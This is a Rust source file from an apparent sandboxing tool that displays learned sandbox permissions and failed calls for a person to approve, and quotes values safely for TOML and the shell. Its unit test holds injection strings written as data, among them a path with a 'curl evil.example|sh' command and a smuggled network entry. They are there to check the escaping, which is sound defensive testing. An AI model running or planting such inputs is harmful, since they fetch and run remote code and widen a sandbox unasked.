//! Shows the findings, for people.

use std::path::Path;

use portcullis::cell::CellUsage;
use portcullis::escape::toml_string;
use portcullis_learn::{CellLine, Proposal};

use super::Learned;
use crate::output::{self, BAD, BOLD, escape_hidden, plain_shell_word};

/// The longest answer of a failed call that is shown, in characters.
const SHOWN_CHARS: usize = 200;

/// The largest number of failed calls that are shown one by one.
const SHOWN_FAILURES: usize = 8;

/// Shows what one round was seen to lack.
pub(super) fn round(number: usize, lines: &[CellLine]) {
    output::message(&format!("{BOLD}round {number}{BOLD:#}: the cell lacks"));
    lines.iter().for_each(|line| output::message(&described(line)));
}

/// Shows the result, and last the lines that a person is asked about.
pub(super) fn learned(learned: &Learned) {
    let failure = learned.enforced.failure.as_ref().or(learned.recorded.failure.as_ref());
    if let Some(failure) = failure {
        output::message(&format!("{BAD}it does not start{BAD:#}: {}", escape_hidden(failure)));
    }
    if !learned.withheld.is_empty() {
        output::message(&format!("{BOLD}tried, and not proposed{BOLD:#}"));
        learned.withheld.iter().for_each(|line| output::message(&described(line)));
    }
    bytecode(learned.bytecode);
    if !learned.variables.is_empty() {
        output::message(&format!(
            "{BOLD}variables that it was not given{BOLD:#}: `env` of the source gives it those that it needs"
        ));
        learned.variables.described().for_each(|line| output::message(&line));
    }
    if !learned.denied.is_empty() {
        let calls: Vec<&str> = learned.denied.iter().copied().collect();
        output::message(&format!("it made system calls that every cell denies: {}", calls.join(", ")));
    }
    if learned.usage.threads > 0 {
        let CellUsage { memory, threads } = learned.usage;
        output::message(&format!(
            "it held up to {} MiB in {threads} threads; `memory` and `processes` of its cell bound them",
            memory.div_ceil(1 << 20)
        ));
    }
    if learned.unrecorded > 0 {
        let attempts = output::counted(learned.unrecorded, "attempt");
        output::message(&format!("{attempts} could not be recorded, so more may be missing"));
    }
    let (all, worked) = (learned.recorded.calls.len(), learned.recorded.calls.iter().filter(|call| call.ok).count());
    output::message(&format!(
        "calls made: {all}, answered without an error: {worked}; what no call touched was not seen"
    ));
    failures(learned);
    for call in learned.broken() {
        let text: String = call.text.chars().take(SHOWN_CHARS).collect();
        output::message(&format!(
            "{BAD}{} worked under the recorder and fails without{BAD:#}: {}",
            escape_hidden(&call.tool),
            escape_hidden(&text)
        ));
    }
    // Last, so that no text of the source comes between the lines and the question about them.
    if !learned.lines.is_empty() {
        output::message(&format!("{BOLD}the cell{BOLD:#}"));
        learned.lines.iter().for_each(|line| output::message(&described(line)));
    } else if worked < all {
        output::message(
            "nothing is proposed, although calls failed: what nothing in the command names is never proposed in /tmp, /etc or \
             /usr, so look at what the calls say",
        );
    } else if failure.is_none() {
        output::message("the cell lacks nothing that was tried");
    }
}

/// Shows the calls that failed, each with the first line of the reason: later needs of theirs were not seen.
fn failures(learned: &Learned) {
    let failed = || learned.recorded.calls.iter().filter_map(|call| Some((&call.tool, call.failure.as_ref()?)));
    let count = failed().count();
    if count == 0 {
        return;
    }
    output::message(&format!(
        "{BOLD}{} failed{BOLD:#}, so something that the server needs may be missing; `--calls FILE` makes calls of your own",
        output::counted(count, "call")
    ));
    for (tool, why) in failed().take(SHOWN_FAILURES) {
        let why: String = why.chars().take(SHOWN_CHARS).collect();
        output::message(&format!("  {}: {}", escape_hidden(tool), escape_hidden(&why)));
    }
    if count > SHOWN_FAILURES {
        output::message(&format!("  and {} more, which --json lists", count - SHOWN_FAILURES));
    }
}

/// Shows whether the lines were written.
pub(super) fn written(learned: &Learned, written: Option<&Path>) {
    match written {
        Some(file) => output::message(&format!("written to {}", escape_hidden(&file.to_string_lossy()))),
        None if learned.lines.is_empty() => {}
        None if learned.open => output::message(
            "nothing was written, and the last lines were not tried: agree to them in a terminal, or run it with --yes",
        ),
        None if !learned.still_works() => {
            output::message("nothing was written, because the source does not work with these lines")
        }
        None => output::message("nothing was written: run it with --yes, or add the lines to the `cell` of the source"),
    }
}

/// Shows a proposal as switches of `wrap`.
pub(super) fn switches(proposal: &Proposal) {
    if proposal.is_empty() {
        output::message("the cell lacks nothing that was tried");
    } else {
        let switches: Vec<String> = proposal.lines.iter().map(switch).collect();
        output::message(&format!("{BOLD}the cell lacks{BOLD:#}: {}", switches.join(" ")));
        proposal.lines.iter().for_each(|line| output::message(&described(line)));
    }
    if !proposal.withheld.is_empty() {
        output::message(&format!("{BOLD}tried, and not proposed{BOLD:#}"));
        proposal.withheld.iter().for_each(|line| output::message(&described(line)));
    }
    bytecode(proposal.bytecode);
}

/// Says in one line that Python's bytecode was not written, which would be a line for each module.
fn bytecode(refused: usize) {
    if refused > 0 {
        let paths = output::counted(refused, "path");
        output::message(&format!("not written: {paths} of Python's bytecode (`__pycache__`), which it works without"));
    }
}

/// Returns a line as a switch of `wrap`, for a shell.
pub(super) fn switch(line: &CellLine) -> String {
    format!("--{} {}", line.key.as_str(), plain_shell_word(&line.value))
}

/// Returns a line as a difference, with its evidence.
pub(crate) fn described(line: &CellLine) -> String {
    let remark = line.remark.map(|remark| format!("  ({remark})")).unwrap_or_default();
    let evidence: String = line.evidence.iter().map(|text| format!("\n      {}", escape_hidden(text))).collect();
    format!("  + {} = [{}]{remark}{evidence}", line.key.as_str(), toml_string(&line.value))
}

#[cfg(test)]
mod tests {
    use portcullis_learn::CellKey;

    use super::*;

    #[test]
    fn a_path_stays_one_value_and_one_word_of_what_is_shown() {
        for path in ["/data/notes\"], network = [\"evil.example:443", "/data/a;curl evil.example|sh;#", "/data/a b\\"] {
            let line = CellLine { key: CellKey::Read, value: path.to_owned(), evidence: Vec::new(), remark: None };
            assert_eq!(described(&line), format!("  + read = [{}]", toml_string(path)));
            assert_eq!(switch(&line), format!("--read '{path}'"));
        }
    }
}
